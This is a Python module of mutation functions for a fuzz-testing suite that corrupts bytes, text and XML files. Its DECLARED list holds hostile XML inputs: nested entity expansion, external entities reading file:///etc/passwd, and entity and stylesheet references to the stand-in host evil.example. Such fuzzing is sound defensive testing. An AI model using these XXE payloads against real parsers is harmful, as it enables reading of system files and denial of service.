"""What is done to a good file: its bytes, its lines, its elements, its pages, its parts. Everything hangs on the ``Random``."""

from __future__ import annotations

import re
import struct
from collections.abc import Callable
from random import Random
from typing import Final
from xml.sax.saxutils import escape

from tests.fuzz.strings import encoded, hostile

Mutation = Callable[[bytes, Random], bytes]

INTERESTING: Final = (0, 1, 2, 0x7F, 0x80, 0xFF, 0x7FFF, 0x8000, 0xFFFF, 0x10000, 0x7FFFFFFF, 0x80000000, 0xFFFFFFFF)


def span(data: bytes, chance: Random, longest: int = 4_096) -> tuple[int, int]:
    """A stretch of the file, short more often than long."""
    start = chance.randrange(len(data) + 1)
    return start, min(len(data), start + int(longest ** chance.random()))


# --- Bytes


def flip(data: bytes, chance: Random) -> bytes:
    changed = bytearray(data)
    for _ in range(int(40 ** chance.random())):
        if changed:
            changed[chance.randrange(len(changed))] ^= 1 << chance.randrange(8)
    return bytes(changed)


def overwrite(data: bytes, chance: Random) -> bytes:
    start, end = span(data, chance, 64)
    return (
        data[:start] + chance.choice((chance.randbytes(end - start), b"\0" * (end - start), b"\xff" * (end - start))) + data[end:]
    )


def number(data: bytes, chance: Random) -> bytes:
    """Two or four bytes become a number at the edge of something."""
    size, code = chance.choice(((1, "<B"), (2, "<H"), (4, "<I"), (2, ">H"), (4, ">I")))
    at = chance.randrange(max(1, len(data) - size))
    return data[:at] + struct.pack(code, chance.choice(INTERESTING) & (256**size - 1)) + data[at + size :]


def cut(data: bytes, chance: Random) -> bytes:
    return data[: chance.randrange(len(data) + 1)]


def drop(data: bytes, chance: Random) -> bytes:
    start, end = span(data, chance)
    return data[:start] + data[end:]


def repeat(data: bytes, chance: Random) -> bytes:
    start, end = span(data, chance)
    return data[:end] + data[start:end] * chance.choice((1, 2, 50)) + data[end:]


def swap(data: bytes, chance: Random) -> bytes:
    cuts = sorted(chance.randrange(len(data) + 1) for _ in range(4))
    a, b, c, d = cuts
    return data[:a] + data[c:d] + data[b:c] + data[a:b] + data[d:]


BYTES: Final[tuple[Mutation, ...]] = (flip, overwrite, number, cut, drop, repeat, swap)


# --- Text: lines, and the values between delimiters


def text_encoding(data: bytes) -> str:
    return "utf-16" if data[:2] in (b"\xff\xfe", b"\xfe\xff") else "utf-8"


def on_text(change: Callable[[str, Random], str]) -> Mutation:
    """A change of text as one of bytes, in the file's own encoding, and now and then in another."""

    def mutation(data: bytes, chance: Random) -> bytes:
        encoding = text_encoding(data)
        changed = change(data.decode(encoding, "replace"), chance)
        if chance.random() < 0.1:
            encoding = chance.choice(("utf-16", "utf-8-sig", "cp1252", "utf-16-be", "utf-8"))
        return encoded(changed, encoding)

    return mutation


def line(text: str, chance: Random) -> str:
    """A line dropped, repeated, swapped with another, or joined to the next."""
    lines = re.split(r"(?<=\n)", text)
    a, b = chance.randrange(len(lines)), chance.randrange(len(lines))
    what = chance.randrange(5)
    if what == 0:
        del lines[a]
    elif what == 1:
        lines[b:b] = [lines[a]] * chance.choice((1, 1, 3, 40))
    elif what == 2:
        lines[a], lines[b] = lines[b], lines[a]
    elif what == 3:
        lines[a] = lines[a].rstrip("\r\n")
    else:
        lines[a] = hostile(chance) + chance.choice(("", "\n")) + lines[a]
    return "".join(lines)


def value(text: str, chance: Random) -> str:
    """A word, a number, or what stands between two delimiters becomes a hostile text, quoted or not."""
    found = list(re.finditer(r'"[^"\n]*"|[^;,\t\s"<>=\[\]]+', text))
    for match in sorted(chance.sample(found, min(len(found), chance.choice((1, 1, 1, 3, 10)))), key=lambda m: -m.start()):
        new = hostile(chance)
        quoted = match[0].startswith('"') if chance.random() < 0.8 else chance.random() < 0.5
        if quoted:
            new = '"' + (new.replace('"', '""') if chance.random() < 0.5 else new) + '"'
        text = text[: match.start()] + new + text[match.end() :]
    return text


def digit(text: str, chance: Random) -> str:
    """A number becomes another one: what still reads, and contradicts the rest."""
    found = list(re.finditer(r"-?[0-9]+", text))
    if not found:
        return text
    match = chance.choice(found)
    new = chance.choice(
        (
            str(int(match[0][:9]) + chance.choice((-1, 1, 10))),
            str(chance.randrange(20)),
            "0",
            "-" + match[0],
            match[0] * 2,
            chance.choice(found)[0],
        )
    )
    return text[: match.start()] + new + text[match.end() :]


def delimiter(text: str, chance: Random) -> str:
    """One delimiter, or all of them, become another."""
    old, new = chance.choice(';,\t"\n[]%'), chance.choice(';,\t"\n[]%\r\x00|')
    return text.replace(old, new) if chance.random() < 0.3 else text.replace(old, new, chance.randrange(1, 9))


TEXT: Final[tuple[Mutation, ...]] = tuple(map(on_text, (line, value, value, value, digit, digit, delimiter)))


# --- XML: elements and attributes

_TOKEN: Final = re.compile(r"<[^<>]*>|[^<]+|<")
_ATTRIBUTE: Final = re.compile(r'([\w:.-]{1,60})\s*=\s*("[^"]*"|\'[^\']*\')')
DECLARED: Final = (
    '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>',
    '<!DOCTYPE x SYSTEM "file:///etc/passwd">',
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x"> %p;]>',
    "<!DOCTYPE x>",
    '<?xml-stylesheet href="http://evil.example/"?>',
    "<!-- x -->",
    "<![CDATA[x]]>",
    '<?xml version="1.1"?>',
    '<?xml version="1.0" encoding="utf-7"?>',
    '<?xml version="1.0" encoding="rot13"?>',
    '<?xml version="1.0" encoding="utf-16"?>',
)


def in_xml(text: str, chance: Random) -> str:
    """A text as it may stand in XML: escaped most of the time, so that it gets past the parser."""
    how = chance.random()
    if how < 0.97:
        kept = "".join(c for c in text if (c >= " " or c in "\t\n") and not "\ud800" <= c <= "\udfff" and c < "\ufffe")
        return escape(kept, {'"': "&quot;"}) if how < 0.94 else f"<![CDATA[{kept.replace(']]>', '')}]]>"
    return text


def element(text: str, chance: Random) -> str:
    """An element with what is in it: dropped, repeated, moved, put inside itself."""
    tokens = _TOKEN.findall(text)
    opening = [n for n, token in enumerate(tokens) if re.match(r"<[^/!?]", token)]
    if not opening:
        return text
    start = chance.choice(opening)
    end = _end_of(tokens, start)
    whole = "".join(tokens[start:end])
    before, after = "".join(tokens[:start]), "".join(tokens[end:])
    what = chance.randrange(6)
    if what == 0:
        return before + after
    if what == 1:
        return before + whole * chance.choice((2, 2, 3, 30)) + after
    if what == 2:
        other = chance.choice(opening)
        return before + after if other >= start else "".join(tokens[:other]) + whole + "".join(tokens[other:start]) + after
    if what == 3:
        deep = chance.choice((1, 3, 200))
        return before + tokens[start].replace("/>", ">") * deep + whole + f"</{_name(tokens[start])}>" * deep + after
    if what == 4:
        return before + whole.replace(_name(tokens[start]), chance.choice(("x", "PAIR", "c", "v", "a:b", "EVENT"))) + after
    return before + tokens[start] + after  # never closed


def _end_of(tokens: list[str], start: int) -> int:
    if tokens[start].endswith("/>"):
        return start + 1
    name, depth = _name(tokens[start]), 0
    for n in range(start, len(tokens)):
        if re.match(rf"<{re.escape(name)}[\s>]", tokens[n]):
            depth += 1
        elif tokens[n].startswith(f"</{name}"):
            depth -= 1
            if depth == 0:
                return n + 1
    return start + 1


def _name(tag: str) -> str:
    match = re.match(r"</?([^\s/>]*)", tag)
    return match[1] if match else ""


def content(text: str, chance: Random) -> str:
    """The text of some elements becomes hostile."""
    found = [match for match in re.finditer(r">([^<>]+)<", text) if match[1].strip()]
    for match in sorted(chance.sample(found, min(len(found), chance.choice((1, 1, 2, 8)))), key=lambda m: -m.start()):
        text = text[: match.start(1)] + in_xml(hostile(chance), chance) + text[match.end(1) :]
    return text


def attribute(text: str, chance: Random) -> str:
    """Some attributes: a hostile value, another's value, dropped, doubled, renamed."""
    found = list(_ATTRIBUTE.finditer(text))
    if not found:
        return text
    for match in sorted(chance.sample(found, min(len(found), chance.choice((1, 1, 3)))), key=lambda m: -m.start()):
        new = chance.choice(
            (
                f'{match[1]}="{in_xml(hostile(chance), chance)}"',
                f"{match[1]}={chance.choice(found)[2]}",
                "",
                f"{match[0]} {match[0]}",
                f"x{match[1]}={match[2]}",
                f'{match[1]}="{chance.choice(("0", "-1", "99999999999", "1"))}"',
            )
        )
        text = text[: match.start()] + new + text[match.end() :]
    return text


def declared(text: str, chance: Random) -> str:
    at = text.find("?>") + 2 if text.startswith("<?xml") and chance.random() < 0.8 else 0
    end = at if chance.random() < 0.7 else 0
    return text[:end] + chance.choice(DECLARED) + text[at:]


XML: Final[tuple[Mutation, ...]] = tuple(
    map(on_text, (element, element, content, content, content, content, attribute, digit, digit, declared))
)


def mutated(data: bytes, chance: Random, *kinds: tuple[Mutation, ...]) -> bytes:
    """A few changes, mostly of the format's own kind."""
    for _ in range(chance.choice((1, 1, 1, 1, 2, 2, 4))):
        data = chance.choice(chance.choice(kinds))(data, chance) or b" "
    return data
